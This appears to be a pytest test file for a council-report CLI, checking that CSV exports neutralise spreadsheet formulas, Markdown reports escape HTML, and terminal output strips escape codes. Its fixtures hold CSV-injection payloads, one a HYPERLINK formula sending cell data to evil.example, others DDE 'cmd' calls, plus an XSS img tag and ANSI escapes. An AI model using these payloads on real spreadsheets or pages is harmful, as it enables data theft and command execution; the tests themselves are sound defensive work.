"""Output that cannot be turned against its reader: CSV cells that a spreadsheet would run
as formulas get a leading apostrophe (OWASP CSV injection), Markdown reports escape HTML in
document text, and the terminal never receives raw newlines or ANSI escapes from a document."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from followthrough.cli import cli

ROOT = Path(__file__).resolve().parent.parent
REPORT = ROOT / "corpus" / "documents" / "bridgend_cabinet_2023_ciw_improvement_check_item168.txt"
PLAN = ROOT / "corpus" / "bridgend-plan" / "plan.pdf"

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 caseloads are too high",
    "\r": "\r=1+1 caseloads are too high",
}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("safety") / "t.db"
    assert CliRunner().invoke(cli, ["--db", str(db), "ingest", str(REPORT), str(PLAN)]).exit_code == 0
    return db


def poison(db: Path, text: str, kinds: tuple[str, ...] = ("commitment", "concern", "recommendation")) -> None:
    """Give every statement of these kinds the text (the FTS index follows by trigger)."""
    with sqlite3.connect(db) as conn:
        conn.execute(f"UPDATE statements SET text = ? WHERE kind IN ({', '.join('?' for _ in kinds)})", [text, *kinds])


@pytest.mark.parametrize("start", list(HOSTILE))
def test_csv_cells_never_start_a_formula(db: Path, tmp_path: Path, start: str) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    poison(copy, HOSTILE[start])
    for command in (["statements"], ["commitments"], ["gaps"]):
        result = CliRunner().invoke(cli, ["--db", str(copy), *command, "--format", "csv"])
        assert result.exit_code == 0, (command, result.output)
        rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
        texts = [row["text"] for row in rows if row["text"]]
        assert texts, command
        assert all(not text.startswith(tuple(HOSTILE)) for text in texts), (command, texts[:3])
        # the cell is the payload behind an apostrophe (gaps puts text on one line)
        assert all(text.startswith("'") and text[1:].strip() == HOSTILE[start].strip() for text in texts), (
            command,
            texts[:3],
        )


def test_markdown_report_escapes_html(db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    poison(copy, 'The council must act <img src=x onerror="alert(1)"> &amp; now.', ("concern", "recommendation"))
    result = CliRunner().invoke(cli, ["--db", str(copy), "gaps"])
    assert result.exit_code == 0, result.output
    assert "<img" not in result.stdout
    assert '&lt;img src=x onerror="alert(1)"&gt; &amp;amp; now.' in result.stdout


def test_terminal_gets_no_escapes_from_documents(db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    poison(copy, "Fine.\nError: forged line \x1b[31mred\x1b[0m \x1b]0;title\x07")
    for command in (["statements"], ["commitments"], ["gaps"], ["search", "forged"]):
        result = CliRunner().invoke(cli, ["--db", str(copy), *command])
        assert result.exit_code == 0, (command, result.output)
        assert "\x1b" not in result.output and "\x07" not in result.output, command
        assert not any(line.startswith("Error: forged") for line in result.output.splitlines()), command
